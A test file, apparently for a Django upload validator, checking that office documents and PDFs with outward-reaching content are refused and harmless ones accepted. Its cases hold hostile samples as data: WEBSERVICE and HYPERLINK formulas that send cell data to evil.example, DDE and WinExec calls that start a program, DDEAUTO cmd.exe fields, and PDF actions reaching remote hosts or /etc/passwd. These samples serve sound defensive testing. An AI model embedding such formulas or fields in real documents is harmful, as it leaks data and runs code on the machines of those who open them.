"""Files that act or fetch: each of these came in before, or is a neighbour of one that did."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from core.files.uploads import ACCEPTED, check_upload
from core.files.uploads.formulas import reaches_out
from tests.core.files import hostile_files as files
from tests.core.files.test_uploads import check, refusal
from tests.core.files.test_uploads_containers import FETCHES, INSIDE, MACROS, odf
from tests.core.files.test_uploads_pictures import ACTS

pytestmark = pytest.mark.unit

CALCULATES = (
    "This file holds a formula that fetches from elsewhere, leads out of the file or starts a program. Replace such "
    "formulas by their values, or save it as PDF, and choose it again."
)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def sheet(body: str, name: str = "xl/worksheets/sheet1.xml", root: str = "worksheet") -> bytes:
    return files.office(".xlsx", more={name: f'<{root} xmlns="{MAIN}">{body}</{root}>'})


def formula(text: str) -> bytes:
    return sheet(f"<sheetData><row><c><f>{text}</f></c></row></sheetData>")


FORMULAS = [
    '_xlfn.WEBSERVICE("http://evil.example/?"&amp;C1)',
    '_xlfn._xlws.webservice("http://evil.example/")',
    "1+WEBSERVICE (A1)",
    'HYPERLINK("http://evil.example/?"&amp;C1,"law")',
    'HYPERLINK("#"&amp;A1,"law")',
    'HYPERLINK(A1,"law")',
    'IMPORTDATA("http://evil.example")',
    'IMPORTXML("http://evil.example","//a")',
    '_xlfn.IMAGE("http://evil.example/x.png")',
    'RTD("evil.server",,"x")',
    'DDE("soffice","file","A1")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    'REGISTER.ID("kernel32","WinExec")',
    'EXEC("calc")',
    'SQL.REQUEST("DSN=x",,,"SELECT 1")',
    'CUBEVALUE("connection","x")',
    'STOCKHISTORY("x",1)',
    "cmd|'/C calc'!A0",
    "[1]Sheet1!A1",
    "'http://evil.example/[a.xlsx]Sheet1'!A1",
    "'\\\\evil.example\\share\\[a.xlsx]Sheet1'!A1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_that_reaches_out_stays_out(text: str) -> None:
    assert refusal("list.xlsx", formula(text)) == CALCULATES


@pytest.mark.parametrize(
    "body",
    [
        '<sheetData><row><c><f xml:space="preserve">WEB<![CDATA[SERVICE]]>(A1)</f></c></row></sheetData>',
        "<sheetData><row><c><f>&#87;EBSERVICE(A1)</f></c></row></sheetData>",
        "<conditionalFormatting><cfRule><formula>WEBSERVICE(A1)=1</formula></cfRule></conditionalFormatting>",
        "<dataValidations><dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation></dataValidations>",
        '<x:f xmlns:x="http://schemas.microsoft.com/office/excel/2006/main">WEBSERVICE(A1)</x:f>',
        "<definedNames><definedName name='a'>WEBSERVICE(A1)</definedName></definedNames>",
        "<calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula>",
    ],
)
def test_wherever_and_however_the_formula_is_written(body: str) -> None:
    assert refusal("list.xlsx", sheet(body)) == CALCULATES


def test_an_encoding_hides_nothing() -> None:
    body = '<?xml version="1.0" encoding="UTF-16"?><worksheet><c><f>WEBSERVICE(A1)</f></c></worksheet>'
    part = files.office(".xlsx", more={"xl/worksheets/sheet1.xml": body.encode("utf-16")})
    assert refusal("list.xlsx", part) == CALCULATES
    field = '<?xml version="1.0" encoding="UTF-16"?><d><instrText>DDEAUTO c:\\cmd</instrText></d>'
    assert refusal("law.docx", files.office(more={"word/document.xml": field.encode("utf-16")})) == FETCHES


@pytest.mark.parametrize(
    "text",
    [
        "SUM(A1:B2)", 'IF(A1&gt;2,"see http://law.example | [1]A!b","WEBSERVICE(1)")', "Table1[[#This Row],[Cost]]*2",
        "'Annex I'!A1", 'HYPERLINK("#Sheet1!A1","to the top")', "_xlfn.XLOOKUP(A1,B:B,C:C)", "MYIMAGE(1)", "A1/B1",
    ],
)  # fmt: skip
def test_a_formula_that_calculates_in_the_file_comes_in(text: str) -> None:
    assert check("list.xlsx", formula(text)) == ACCEPTED[".xlsx"]


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
        ("xl/externalLinks/externalLink1.xml", '<oleLink progId="x"/>'),
        ("xl/externalLinks/externalLink1.xml", "<externalBook><sheetNames/></externalBook>"),
        ("xl/connections.xml", '<connection id="1" type="4"><webPr url="http://evil.example"/></connection>'),
        ("xl/queryTables/queryTable1.xml", "<queryTable/>"),
        ("customXml/item1.xml", "<DataMashup>UEsDBBQ</DataMashup>"),
    ],
)
def test_links_to_other_programs_and_data_stay_out(name: str, body: str) -> None:
    assert refusal("list.xlsx", sheet(body, name, "root")) == FETCHES


def test_objects_and_old_macros_of_a_sheet_stay_out() -> None:
    assert refusal("list.xlsx", sheet('<oleObjects><oleObject progId="Package"/></oleObjects>')) == INSIDE
    old = '<definedName name="_xlnm.Auto_Open" xlm="1">Macro1!A1</definedName>'
    assert refusal("list.xlsx", sheet(old, "xl/workbook.xml", "workbook")) == MACROS


@pytest.mark.parametrize("kind", ["externalLinkPath", "oleObject", "connections"])
def test_relations_to_the_outside_stay_out(kind: str) -> None:
    assert refusal("law.docx", files.office(more=files.relation("http://evil.example/a.xlsx", kind))) == FETCHES
    assert refusal("law.docx", files.office(more=files.relation("a.xml", kind, ""))) == FETCHES


@pytest.mark.parametrize("kind", ["aFChunk", "subDocument", "frame", "attachedTemplate", "control"])
def test_other_documents_within_one_of_word_stay_out(kind: str) -> None:
    assert refusal("law.docx", files.office(more=files.relation("a.bin", kind, ""))) == FETCHES


def field(*pieces: str) -> bytes:
    body = "".join(f'<w:fldChar w:fldCharType="begin"/><w:instrText>{each}</w:instrText>' for each in pieces)
    return files.office(more={"word/document.xml": f'<w:document xmlns:w="w">{body}</w:document>'})


@pytest.mark.parametrize(
    "text",
    [
        r"DDEAUTO c:\\windows\\cmd.exe", " ddeauto cmd", "DDE excel x", r'INCLUDETEXT "\\\\evil\\a"',
        r'includepicture "http://evil.example/x" \d', 'LINK Excel.Sheet.8 "http://evil.example/a.xlsx"',
        "EMBED Package", 'IMPORT "http://evil.example/x.wmf"', r'DATABASE \c "DSN=x"', r'RD "\\\\evil\\a.docx"',
        "MACROBUTTON run law", 'HYPERLINK "file:///c:/windows/calc.exe"', r'HYPERLINK "\\\\evil.example\\share"',
    ],
)  # fmt: skip
def test_a_field_of_word_that_reaches_out_stays_out(text: str) -> None:
    assert refusal("law.docx", field(text)) == FETCHES
    assert refusal("law.docx", field("PAGE", text)) == FETCHES
    simple = text.replace('"', "&quot;")
    content = f'<w:d xmlns:w="w"><w:fldSimple w:instr="{simple}"/></w:d>'
    assert refusal("law.docx", files.office(more={"word/footer1.xml": content})) == FETCHES


@pytest.mark.parametrize(
    "text", ['HYPERLINK "https://law.example/link/dde"', 'TOC \\o "1-3" \\h', "PAGE", "REF _link \\h", "SEQ Link"]
)
def test_fields_that_a_document_needs_come_in(text: str) -> None:
    assert check("law.docx", field(text)) == ACCEPTED[".docx"]


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("<mailMerge><query/></mailMerge>", FETCHES),
        ('<altChunk xmlns="w"/>', FETCHES),
        ('<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/>', INSIDE),
        ('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x.png"/>', FETCHES),
        ('<v:fill xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil.example\\x"/>', FETCHES),
    ],
)
def test_what_word_fetches_without_a_field_stays_out(body: str, told: str) -> None:
    assert refusal("law.docx", files.office(more={"word/settings.xml": f"<settings>{body}</settings>"})) == told


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("<t:script>run()</t:script>", MACROS),
        ('<t:execute-macro t:name="x"/>', MACROS),
        ('<d:applet d:code="x"/>', MACROS),
        ("<d:plugin/>", MACROS),
        ('<t:p t:formula="ooow:WEBSERVICE(1)"/>', CALCULATES),
    ],
)
def test_the_same_of_an_open_document_stays_out(body: str, told: str) -> None:
    assert refusal("law.odt", odf(body)) == told


URI = b"<</S/URI/URI(http://evil.example/?read)>>"
GOTO = b"<</S/GoTo/D[3 0 R/Fit]>>"


@pytest.mark.parametrize(
    "content",
    [
        files.pdf(b"<</OpenAction " + URI + b">>"),
        files.pdf(b"<</#4fpenAction<</#53/URI/URI(http://evil.example)>>>>"),
        files.pdf(b"<</OpenAction 2 0 R>>", URI),
        files.pdf(b"<</OpenAction 11 0 R>>", files.object_stream(URI)),
        files.pdf(files.object_stream(b"<</OpenAction 2 0 R>>"), URI),
        files.pdf(b"<</OpenAction 9 0 R>>"),
        files.pdf(b"<</OpenAction 2 0 R>>", GOTO) + files.pdf(b"<<>>", URI),
        files.pdf(b"<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 2 0 R>>>>", URI),
        files.pdf(b"<</OpenAction<</S/Named/N/Print>>>>"),
        files.pdf(b"<</Type/Page/AA<</O 2 0 R>>>>", URI),
        files.pdf(b"<</Type/Page/AA 2 0 R>>"),
        files.pdf(b"<</Length 0/F<</FS/URL/F(http://evil.example/x)>>>>\nstream\n\nendstream"),
        files.pdf(b"<</Length 0/F(law.txt)>>\nstream\n\nendstream"),
        files.pdf(b"<</Length 0/F 2 0 R>>\nstream\n\nendstream", b"(law.txt)"),
        files.pdf(b"<</FS /URL/F(x)>>"),
        files.pdf(b"<</Type/Filespec/F(\\\\\\\\evil.example\\\\share)>>"),
        files.pdf(b"<</Type/Filespec/UF(file:///etc/passwd)>>"),
        files.pdf(b"<</Ref<</F <687474703A2F2F78> /Page 0>>>>"),
        files.pdf(b"<</AcroForm<</XFA [(a) 7 0 R]>>>>"),
        files.pdf(b"<</S/ImportData/F(x)>>"),
        files.pdf(rb"<</Length 0/F(\150ttp://evil.example/x)/X(obj)>>" + b"\nstream\n\nendstream"),
        files.pdf(b"<</Length 0/F 9 0 R/X(obj)>>\nstream\n\nendstream"),
        files.pdf(b"<</Length 0/F 9 0 R/X(9 0 obj <<)>>\nstream\n\nendstream"),
        files.pdf(rb"<</Length 0/F 9 0 R/X(9 0 obj << /A \()>>" + b"\nstream\n\nendstream"),
        files.pdf(b"<</Length 0/F 9 0 R/X(" + b"x" * 5000 + b")>>\nstream\n\nendstream"),
        files.pdf(rb"<</Type/Filespec/F(\150\164tp://evil.example)>>"),
        files.pdf(rb"<</Type/Filespec/UF(\376\377\000h\000t\000t\000p\000:\000/\000/\000x)>>"),
        files.pdf(b"<</Type/Filespec/UF<FEFF 0066 0074 0070 003A 002F 002F>>>"),
        files.pdf(b"<</Type/Filespec/F(ht\\\ntp://evil.example)>>"),
        files.pdf(b"<</Type/Filespec/F%x\n(http://evil.example)>>"),
    ],
)
def test_a_pdf_that_opens_something_or_lies_elsewhere_stays_out(content: bytes) -> None:
    assert refusal("law.pdf", content) == ACTS


@pytest.mark.parametrize(
    "content",
    [
        files.pdf(b"<</Type/Annot/A " + URI + b"/F 4>>"),
        files.pdf(b"<</OpenAction " + GOTO + b">>"),
        files.pdf(b"<</OpenAction 2 0 R>>", GOTO),
        files.pdf(b"<</OpenAction 2 0 R>>", b"[3 0 R /XYZ null null 0]"),
        files.pdf(b"<</OpenAction 11 0 R>>", files.object_stream(GOTO)),
        files.pdf(b"<</OpenAction null>>"),
        files.pdf(b"<</Font<</F1 5 0 R/F 6 0 R>>>>"),
        files.pdf(b"<</AAPL:Keywords[(a)]>>"),
        files.pdf(b"<</Length 2/X(a \\) >> (b) 1 0 obj)/Y<</Z[1 0 R]>>% F (x)\n>>\nstream\nhi\nendstream"),
    ],
)
def test_a_pdf_that_turns_to_its_own_pages_comes_in(content: bytes) -> None:
    assert check("law.pdf", content) == "application/pdf"


def test_a_pdf_that_is_made_to_be_looked_at_for_ever_stays_out() -> None:
    nested = b"1 0 obj<</F(x)" * 250 + b">>" * 250 + b"\nstream\n\nendstream\n"
    assert refusal("law.pdf", files.pdf(b"<<>>", nested * 500)) == ACTS


def test_what_was_sent_is_never_altered() -> None:
    """A file is taken as it is or not at all; what is stored are the bytes that were sent."""
    content = formula("SUM(A1:B2)")
    file = SimpleUploadedFile("list.xlsx", content)
    check_upload(file)
    assert file.read() == content


def test_a_long_formula_is_looked_at_in_one_walk() -> None:
    assert not reaches_out('"' * 100_001 + "[" * 100_000 + "A1" * 10)
    assert reaches_out("[" * 1000 + "1]A!B1")
